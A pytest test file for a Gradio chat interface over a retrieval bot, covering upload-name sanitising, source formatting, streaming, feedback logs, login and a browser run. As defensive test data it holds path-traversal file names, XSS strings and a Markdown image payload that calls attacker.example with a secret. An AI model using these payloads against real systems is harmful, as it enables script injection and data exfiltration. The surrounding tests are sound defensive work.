"""The chat page: formatting as plain functions, handlers without a server, then the real Gradio
server on 127.0.0.1 through gradio_client (streaming, adapter per session, sync, upload,
feedback, login), and a real browser (Debian chromium)."""

import html
import json
import shutil
import threading

import pytest

from bot.errors import RequestError
from bot.trainingdata import load_rows
from conftest import SHIPPED_KB, api_client, browser_page, last_bot_text, launched, load_tiny, write
from ui.format import history_messages, shown_text, sources_markdown, text_of, upload_name

QUESTION = "How much is the Plus plan per month?"
EXT = [".md", ".txt", ".html", ".pdf"]


# --- plain functions ------------------------------------------------------------------------
@pytest.mark.parametrize("name, expected", [
    ("guide.md", "guide.md"),
    ("../../x.md", "x.md"),
    ("..\\..\\win.txt", "win.txt"),
    ("/etc/passwd.md", "passwd.md"),
    ("my notes (v2).md", "my notes _v2_.md"),
    ("Preis<script>.md", "Preis_script_.md"),
])
def test_upload_names_keep_only_a_safe_last_component(name, expected):
    assert upload_name(name, EXT) == expected


@pytest.mark.parametrize("name, why", [
    ("", "not a usable file name"), ("..", "not a usable file name"), (".hidden.md", "not a usable file name"),
    ("../", "not a usable file name"), ("evil.exe", "not indexed"), ("archive.md.zip", "not indexed"),
])
def test_upload_names_refused(name, why):
    with pytest.raises(RequestError, match=why):
        upload_name(name, EXT)


def test_sources_show_n_file_section_passage_and_flagged_values_escaped():
    answer = {"kind": "fallback", "flagged": ["$7.77"], "refused": False, "sources": [
        {"n": 1, "source": "plans/pricing.md", "section": "Plus", "score": 0.71, "cited": True,
         "text": "Plus costs $4.99 <script>alert(1)</script>"},
        {"n": 2, "source": "orders/returns.md", "section": "", "score": 0.4, "cited": False, "text": "60 days",
         "also_in": ["archive/returns-2025.md"]}]}
    md = sources_markdown(answer)
    assert "**[1]** `plans/pricing.md › Plus`" in md and "**cited**" in md
    assert "**[2]** `orders/returns.md` (score 0.40) · also in `archive/returns-2025.md`" in md
    assert md.count("also in") == 1
    assert "`$7.77`" in md and "Not found in the cited passages" in md
    assert "<script>" not in md and "&lt;script&gt;" in md
    assert "No passages" in sources_markdown({"sources": [], "refused": True})


@pytest.mark.parametrize("hostile", [
    "![pixel](https://attacker.example/p.png?q=secret)",
    "[click me](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "[ref]: https://attacker.example/",
])
def test_no_markup_link_or_image_forms_from_shown_text(hostile):
    shown = shown_text(f"Plus costs $4.99 [1]. {hostile}")
    assert "[" not in shown and "<" not in shown  # no Markdown link/image syntax, no tag
    assert html.unescape(shown) == f"Plus costs $4.99 [1]. {hostile}"  # nothing lost for API clients
    md = sources_markdown({"sources": [{"n": 1, "source": "a`](x)`.md", "section": "", "score": 0.5,
                                        "cited": True, "text": hostile}]})
    assert md.count("`") == 2  # a backtick in a file name cannot end the code span early
    assert "[" not in md.split("\n> ", 1)[1]  # the passage itself


def test_history_is_unescaped_for_the_chain():
    shown = [{"role": "user", "content": shown_text("Is A&B <fast>? [1]")}]
    assert history_messages(shown) == [{"role": "user", "content": "Is A&B <fast>? [1]"}]


def test_per_session_state_is_bounded():
    from ui.page import _Recent

    recent = _Recent(size=3)
    for i in range(10):
        recent[f"s{i}"] = i
    recent["s7"] = 70  # touched again: kept as the most recent
    assert list(recent) == ["s8", "s9", "s7"] and recent["s7"] == 70


def test_history_accepts_api_strings_and_ui_part_lists():
    history = [{"role": "user", "content": "hi"},
               {"role": "assistant", "content": [{"type": "text", "text": "Hello"}, {"type": "text", "text": "there"}]},
               {"role": "system", "content": "ignored"}]
    assert history_messages(history) == [{"role": "user", "content": "hi"},
                                         {"role": "assistant", "content": "Hello there"}]
    assert text_of(None) == "" and text_of({"text": "x"}) == "x"


# --- handlers on a real bot (tiny Llama, real voices, a copy of the shipped KB) ---------------
@pytest.fixture(scope="module")
def page(tiny_base, voices_dir, embeddings, tmp_path_factory):
    from bot.app import build_bot
    from bot.config import Settings
    from ui.page import ChatPage

    root = tmp_path_factory.mktemp("ui")
    shutil.copytree(SHIPPED_KB, root / "kb")
    settings = Settings(kb=root / "kb", data_dir=root / "data", adapters_dir=voices_dir)
    settings.model.name = str(tiny_base)
    settings.model.max_new_tokens = 12
    settings.serve.max_upload_mb = 0.01
    bot = build_bot(settings.validate(), embeddings, loaded=load_tiny(tiny_base))
    bot.kb.sync()
    return ChatPage(bot)


def test_respond_streams_then_shows_the_answer_and_its_sources(page):
    outputs = list(page.respond(QUESTION, [], "sunny"))
    assert len(outputs) >= 2 and outputs[0][1] == "_Answering…_"  # token updates, then the final answer
    history, sources = outputs[-1]
    assert [m["role"] for m in history] == ["user", "assistant"]
    solo = page.bot.chain.ask(QUESTION, adapter="sunny")
    assert history[-1]["content"].startswith(shown_text(solo.text)[:20])
    assert "**[1]**" in sources and "pricing-and-plans.md" in sources


def test_errors_reach_the_chat_as_a_short_message(page, monkeypatch):
    history, _ = list(page.respond("x" * 5000, [], "none"))[-1]
    assert history[-1]["content"].startswith("⚠️ the message is 5,000 characters long; the limit is 4,000. ")
    assert "\n" not in history[-1]["content"]
    history, _ = list(page.respond(QUESTION, [], "no-such-voice"))[-1]
    assert "⚠️" in history[-1]["content"] and "no-such-voice" in history[-1]["content"]

    def boom(*a, **k):
        raise RuntimeError("secret internals")
        yield
    monkeypatch.setattr(page.bot.chain, "stream", boom)
    history, _ = list(page.respond(QUESTION, [], "none"))[-1]
    assert "something went wrong" in history[-1]["content"] and "secret" not in history[-1]["content"]


def test_stop_ends_the_answer_early(page):
    stream = page.respond(QUESTION, [], "none")
    next(stream)  # the first token is out
    page.stop()
    history, _ = list(stream)[-1]
    assert "(stopped)" in history[-1]["content"]


def test_feedback_appends_jsonl_that_train_accepts(page, tmp_path):
    from bot.feedback import FeedbackLog

    page.feedback = FeedbackLog(tmp_path / "fb.jsonl")
    list(page.respond(QUESTION, [], "formal"))
    assert "saved" in page.rate_up()
    assert "saved" in page.rate_down()
    records = [json.loads(x) for x in (tmp_path / "fb.jsonl").read_text().splitlines()]
    assert [r["rating"] for r in records] == ["up", "down"]
    assert set(records[0]) == {"question", "answer", "sources", "adapter", "rating", "time"}
    assert records[0]["adapter"] == "formal" and records[0]["sources"][0]["source"]
    rows, report = load_rows(tmp_path / "fb.jsonl")
    assert len(rows) == 1 and report.filtered == 1  # only the answer rated up trains


def test_feedback_file_survives_a_torn_last_line(tmp_path):
    from bot.feedback import FeedbackLog

    path = tmp_path / "fb.jsonl"
    path.write_text('{"question": "a", "answer": "b", "rating": "up"}\n{"question": "torn', encoding="utf-8")
    FeedbackLog(path).append("q", "a", [], "none", "up")
    lines = path.read_text().splitlines()
    assert json.loads(lines[-1])["question"] == "q" and len(lines) == 3


def test_upload_sanitises_refuses_overwrite_big_and_foreign_files_then_indexes(page, tmp_path):
    kb = page.settings.kb
    write(tmp_path / "escape.md", "# Gift wrapping\n\nGift wrapping costs $3.50 per parcel.\n")
    (tmp_path / "sub").mkdir()
    note, status = page.upload([f"{tmp_path}/sub/../escape.md"])
    assert "Added `escape.md`" in note and (kb / "escape.md").is_file()
    assert not (kb.parent / "escape.md").exists()
    assert "escape.md" in page.bot.kb.view().sources()
    note, _ = page.upload([str(tmp_path / "escape.md")])
    assert "already exists" in note
    write(tmp_path / "big.md", "x" * 20_000)
    write(tmp_path / "tool.exe", "MZ")
    note, _ = page.upload([str(tmp_path / "big.md"), str(tmp_path / "tool.exe")])
    assert "limit is 0.01 MB" in note and "not indexed" in note
    assert not (kb / "big.md").exists() and not (kb / "tool.exe").exists()
    assert "documents" in status and "passages" in status


def test_adapter_choices_carry_each_voice_description(page):
    choices = dict((value, label) for label, value in page.adapter_choices())
    assert set(choices) == {"none", "sunny", "formal"}
    assert "warm and upbeat" in choices["sunny"]


# --- the real server ------------------------------------------------------------------------
@pytest.fixture(scope="module")
def server(page):
    with launched(page) as url:
        yield url


def test_api_streams_and_keeps_each_sessions_adapter(server, page):
    solo = {a: page.bot.chain.ask(QUESTION, adapter=a).text for a in ("sunny", "formal", "none")}
    results, errors = {}, []

    def chat(adapter):
        try:
            job = api_client(server).submit(QUESTION, [], adapter, api_name="/chat")
            updates = list(job)
            results[adapter] = (len(updates), job.result()[0][-1]["content"])
        except Exception as err:  # reported below, with the adapter
            errors.append((adapter, repr(err)))

    threads = [threading.Thread(target=chat, args=(a,)) for a in solo]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    assert not errors
    for adapter, (updates, text) in results.items():
        assert updates >= 2, "the reply should arrive in pieces"
        assert html.unescape(text_of(text)).startswith(solo[adapter]), adapter


def test_api_sync_upload_and_feedback(server, page, tmp_path):
    from gradio_client import handle_file

    client = api_client(server)
    assert "passages" in client.predict(api_name="/sync")
    write(tmp_path / "warranty-extension.md", "# Extended care\n\nExtended care costs $19 per year.\n")
    note, _ = client.predict([handle_file(str(tmp_path / "warranty-extension.md"))], api_name="/upload")
    assert "Added" in note and "warranty-extension.md" in page.bot.kb.view().sources()
    assert "Ask a question first" in client.predict(api_name="/rate_up")
    client.predict("What does extended care cost?", [], "none", api_name="/chat")
    before = len(page.feedback.records())
    assert "saved" in client.predict(api_name="/rate_up")
    last = page.feedback.records()[-1]
    assert len(page.feedback.records()) == before + 1
    assert last["question"].startswith("What does extended care cost") and last["rating"] == "up"


def test_login_guards_page_and_api(tiny_base, voices_dir, embeddings, tmp_path):
    from bot.app import build_bot
    from bot.config import Settings
    from ui.page import ChatPage

    settings = Settings(kb=SHIPPED_KB, data_dir=tmp_path / "data", adapters_dir=voices_dir)
    settings.model.name = str(tiny_base)
    settings.serve.user, settings.serve.password = "agent", "s3cret-pass"
    bot = build_bot(settings.validate(), embeddings, loaded=load_tiny(tiny_base))
    with launched(ChatPage(bot)) as url:
        import httpx

        assert httpx.get(url + "config").status_code in (401, 403)
        with pytest.raises(Exception):
            api_client(url).predict(api_name="/sync")
        with pytest.raises(Exception):
            api_client(url, auth=("agent", "wrong")).predict(api_name="/sync")
        assert "passages" in api_client(url, auth=("agent", "s3cret-pass")).predict(api_name="/sync")


# --- a real browser: Debian chromium driven by Playwright ---------------------------------

@pytest.mark.slow
def test_browser_chat_sources_adapter_switch_and_no_script_runs(server, page, tmp_path):
    solo = {a: page.bot.chain.ask(QUESTION, adapter=a).text for a in ("none", "formal")}
    with browser_page(server) as pg:
        box = pg.locator("#message textarea")
        box.fill(QUESTION)
        box.press("Enter")
        first = last_bot_text(pg, 1)
        assert first.strip().startswith(solo["none"][:15])
        assert "[1]" in pg.locator("#sources").inner_text()
        pg.locator("#adapter input").click()
        pg.get_by_role("option", name="formal").first.click()
        box.fill(QUESTION)
        box.press("Enter")
        second = last_bot_text(pg, 2)
        assert second.strip().startswith(solo["formal"][:15]) and second != first
        box.fill('<img src=x onerror="window.__xss=1"><script>window.__xss=2</script> hello')
        box.press("Enter")
        last_bot_text(pg, 3)
        assert pg.evaluate("window.__xss") is None  # shown as text, never run
        try:  # the markup is text in the user's bubble (textContent: innerText is '' while off screen)
            pg.wait_for_function(
                "() => { const u = document.querySelectorAll('[data-testid=\"user\"]');"
                " return u.length > 2 && u[2].textContent.includes('img src=x') && u[2].textContent.includes('hello'); }",
                timeout=30_000)
        except Exception:
            pg.screenshot(path=str(tmp_path / "failed.png"), full_page=True)
            pytest.fail(f"user bubbles: {pg.locator('[data-testid=user]').all_text_contents()!r}; "
                        f"html: {pg.locator('[data-testid=user]').last.inner_html()[:600]!r}")
        shot = tmp_path / "chat-page.png"
        pg.screenshot(path=str(shot), full_page=True)
        assert shot.stat().st_size > 10_000
